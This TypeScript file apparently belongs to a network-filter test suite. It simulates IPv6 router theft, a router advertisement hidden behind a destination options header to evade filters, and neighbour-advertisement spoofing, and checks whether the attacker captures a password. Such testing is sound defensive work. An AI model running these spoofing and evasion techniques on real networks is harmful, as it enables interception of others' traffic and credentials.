/**
 * Theft of the router, IPv6's counterpart of ARP theft. Mallory advertises herself as a router, and in the true one's name
 * that it is none any more (RFC 4861 4.2, lifetime 0); or she claims by a neighbour advertisement that the true router's
 * address is at her card. Alice then sends everything to Mallory, who reads and forwards it.
 *
 * An advertisement behind a destination options header is one for Alice's kernel as well, while filters that look at the
 * first next header only let it pass (RFC 7113).
 */
import { behindOptions, neighbourClaim, routerClaim } from "../frames6.ts";
import { endpointOf, isRouter } from "../guest6.ts";
import { GATEWAY_MAC, INTERNET6, ipv6, mac, ROUTER6 } from "../plan.ts";
import { within } from "../poll.ts";
import type { World } from "../world.ts";
import { type Attack, newSecret, type Outcome } from "./attack.ts";
import { intercepted } from "./interception.ts";

const CLAIMS_PER_SECOND = 40;
/** Milliseconds; a kernel believes an advertisement at once. */
const TIMEOUT = 1_000;
const REQUEST_TIMEOUT = 2_000; // milliseconds
/** Seconds that Mallory wants to be a router. */
const LIFETIME = 1_800;

export const routerTheft: Attack = {
  title: "IPv6 router theft",
  reasons: ["icmpv6.router"],
  needsIPv6: true,
  attempt: (world) => steal(world, advertisements(world)),
};

export const hiddenRouterTheft: Attack = {
  title: "hidden router advertisement",
  reasons: ["icmpv6.router"],
  needsIPv6: true,
  attempt: (world) => steal(world, advertisements(world).map(behindOptions)),
};

export const neighbourTheft: Attack = {
  title: "IPv6 neighbour theft",
  reasons: ["nd.target"],
  needsIPv6: true,
  attempt(world) {
    const { alice, mallory } = world;
    return steal(world, [neighbourClaim(mac(mallory.mac), ipv6(ROUTER6), endpointOf(alice))]);
  },
};

function advertisements({ mallory }: World): Uint8Array[] {
  const end = routerClaim({ mac: mac(GATEWAY_MAC), address: ipv6(ROUTER6) }, 0);
  // The frame is Mallory's, since her softnet would drop another source before it looks at what is in it.
  end.set(routerClaim(endpointOf(mallory), 0).subarray(6, 12), 6);
  return [end, routerClaim(endpointOf(mallory), LIFETIME)];
}

async function steal(world: World, frames: readonly Uint8Array[]): Promise<Outcome> {
  const { alice, mallory } = world;
  const secret = newSecret();
  const { link } = mallory;
  const ask = (body: string) => alice.agent.call("askWeb", { address: INTERNET6, body, timeout: REQUEST_TIMEOUT });
  // A claim counts for a neighbour only that Alice has looked for.
  await ask("hello");
  await mallory.agent.call("startListening", { link, secret });
  await mallory.agent.call("startSending", { link, frames, perSecond: CLAIMS_PER_SECOND, seconds: 10 });
  const { address } = endpointOf(mallory);
  const isRedirected = () => isRouter(alice, address) || alice.namespace.macOf(ROUTER6) === mallory.mac;
  const redirected = await within(TIMEOUT, isRedirected);
  const welcomed = (await ask(`password=${secret}`)) !== null;
  const read = (await mallory.agent.call("heardSoFar")) > 0;
  await mallory.agent.call("stopSending");
  return intercepted(redirected, read, welcomed, "router");
}
